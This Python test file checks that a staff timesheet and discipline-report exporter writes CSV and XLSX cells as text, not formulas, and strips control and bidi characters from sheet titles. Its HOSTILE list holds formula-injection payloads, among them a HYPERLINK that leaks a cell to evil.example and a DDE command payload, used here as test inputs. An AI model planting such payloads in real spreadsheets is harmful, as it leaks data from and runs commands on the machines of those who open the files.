"""Exports are data, never formulas: names and notes beginning with = + - @ stay text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from rules.discipline_score import MonthRecord, ScoreRule, Suggestion
from services import discipline_scores
from services.discipline_scores import PersonScore
from services.documents import discipline_report, timesheet
from services.documents.header import DocumentHeader
from services.documents.period import ReportPeriod
from services.documents.timesheet import BUCKETS
from services.exports import to_csv, to_xlsx
from store.summaries import Line, Thresholds

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B7,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
]


def lines() -> tuple[list[Line], list[Line], Line]:
    units = [Line(key=i, name=name, late_count=-0) for i, name in enumerate(HOSTILE, start=1)]
    people = [
        Line(key=100 + i, name=name, code=f"={i}", unit_id=i, unit_name=name, flags=[name])
        for i, name in enumerate(HOSTILE, start=1)
    ]
    return units, people, Line(key=0, name="Tổng cộng")


@pytest.mark.parametrize("by", ["unit", "employee"])
def test_csv_fields_that_a_spreadsheet_would_evaluate_are_quoted_as_text(by: str) -> None:
    units, people, _ = lines()
    rows = list(csv.reader(io.StringIO(to_csv(units, people, by).decode("utf-8-sig"))))
    texts = [field for row in rows[1:] for field in row if field and not field[0].isdigit()]
    assert texts, "the hostile names are in the file"
    assert all(not field.startswith(("=", "+", "-", "@", "\t")) for field in texts)
    assert f"'{HOSTILE[0]}" in {field for row in rows for field in row}


def test_xlsx_cells_and_sheet_titles_hold_text_not_formulas() -> None:
    units, people, total = lines()
    raw = to_xlsx(
        "=Sở Thử", "Tháng 11/2026", datetime(2026, 12, 1, tzinfo=UTC), units, people, total
    )
    book = load_workbook(io.BytesIO(raw))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula was written"
    values = {c.value for c in cells}
    assert HOSTILE[0] in values and "=cmd|' /C calc'!A0" in values  # kept, as text
    assert all(not title.startswith(("=", "+", "-", "@")) for title in book.sheetnames)


# The documents Nội vụ and the units open (bảng chấm công, discipline report, scores): names,
# titles, units and notes typed by people are text cells there too, and never links.


def _no_formula_and_hostile_kept(raw: bytes) -> None:
    book = load_workbook(io.BytesIO(raw))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula was written"
    assert not [c.coordinate for c in cells if c.hyperlink is not None], "a link was written"
    values = {c.value for c in cells}
    assert {HOSTILE[0], HOSTILE[1], "-2+3", "@SUM(A1:A2)"} <= values  # kept, as text
    assert all(not title.startswith(("=", "+", "-", "@")) for title in book.sheetnames)


def _header() -> DocumentHeader:
    generated = datetime(2026, 12, 1, 8, tzinfo=UTC)
    return DocumentHeader("=Sở Thử", HOSTILE[0], "Sở Nội vụ", "Tháng 11/2026", generated)


def test_timesheet_xlsx_names_and_titles_are_text() -> None:
    rows = [
        timesheet.Row(f"E{i}", name, HOSTILE[i % 3], ("+",) * 30, dict.fromkeys(BUCKETS, 1.0))
        for i, name in enumerate([*HOSTILE, "http://evil.example/"])
    ]
    raw = timesheet.to_xlsx(_header(), [(HOSTILE[0], rows)], 2026, 11, timesheet.Symbols())
    _no_formula_and_hostile_kept(raw)


def test_discipline_report_xlsx_names_are_text() -> None:
    units, people, total = lines()
    for unit in units:
        unit.code = unit.name
    data = discipline_report.ReportData(units, people, total, Thresholds(2, 20, 2))
    _no_formula_and_hostile_kept(discipline_report.to_xlsx(_header(), data))


def test_scores_xlsx_names_and_notes_are_text() -> None:
    rule = ScoreRule()
    suggestion = Suggestion(5.0, 5.0, (), None, None)
    scores = [
        PersonScore(
            i,
            f"E{i}",
            name,
            1,
            name,
            name,
            MonthRecord(20),
            suggestion,
            "adjusted",
            4.0,
            None,
            name,
            name,
            None,
            5.0,
        )
        for i, name in enumerate(HOSTILE)
    ]
    period = ReportPeriod("month", date(2026, 11, 1), date(2026, 11, 30), date(2026, 11, 30), "x")
    _no_formula_and_hostile_kept(discipline_scores.to_xlsx(_header(), period, scores, rule))


def test_unit_names_with_control_or_bidi_characters_make_readable_sheet_titles() -> None:
    """A unit name carrying a control character (a CSV roster from a legacy export) used to
    go into xl/workbook.xml's sheet name as is: XML that no reader opens. Bidi overrides
    (U+202E) would turn a tab's text around."""
    names = ["Phòng\x07 Một", "Phòng\x1bHai\x00", "Phòng \u202eBa\u2066", "\u200fPhòng Bốn"]
    raw = timesheet.to_xlsx(_header(), [(n, []) for n in names], 2026, 11, timesheet.Symbols())
    assert load_workbook(io.BytesIO(raw)).sheetnames == [
        "Phòng Một",
        "Phòng Hai",
        "Phòng Ba",
        "Phòng Bốn",
    ]
    units = [Line(key=i, name=n) for i, n in enumerate(names, start=1)]
    data = discipline_report.ReportData(
        units, [], Line(key=0, name="Tổng cộng"), Thresholds(2, 20, 2)
    )
    book = load_workbook(io.BytesIO(discipline_report.to_xlsx(_header(), data)))
    assert book.sheetnames[1:] == ["Phòng Một", "Phòng Hai", "Phòng Ba", "Phòng Bốn"]


def test_csv_rate_column_has_the_report_heading() -> None:
    head = to_csv([], [], "unit").decode("utf-8-sig").splitlines()[0]
    assert "Tỷ lệ vi phạm (lượt/100 ngày làm việc)" in head
    assert "(%)" not in head
